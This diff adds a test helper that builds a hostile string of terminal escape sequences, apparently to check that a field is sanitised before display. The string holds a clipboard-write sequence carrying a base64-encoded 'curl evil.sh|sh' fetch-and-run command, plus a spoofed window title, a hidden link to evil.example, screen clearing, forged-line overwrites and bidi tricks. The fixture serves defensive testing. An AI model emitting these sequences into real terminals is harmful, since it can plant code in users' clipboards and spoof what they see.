@@ -28,3 +28,12 @@ export const PAYLOADS: [name: string, text: string, shown: string][] = [
   ['BEL, BS, DEL', `b${BEL}e\bl\u007Fl`, 'bell'],
   ['a tab', 'a\tb', 'a b'],
 ];
+
+/** Every trick at once, after a word that must still be shown: for a field that a test follows to the screen. */
+export function hostile(word: string): string {
+  return (
+    `${word}${ESC}]52;c;Y3VybCBldmlsLnNofHNo${BEL}${ESC}]0;pwned${BEL}${ESC}]8;;https://evil.example${BEL}link` +
+    `${ESC}]8;;${BEL}${ESC}[2J${ESC}[H\rFORGED \u202Edesrever\u200B\u2066\u2028\u009b2J\u{E0041}` +
+    ' @dana #12 acme/crm#7 GH-3 &#64;x'
+  );
+}
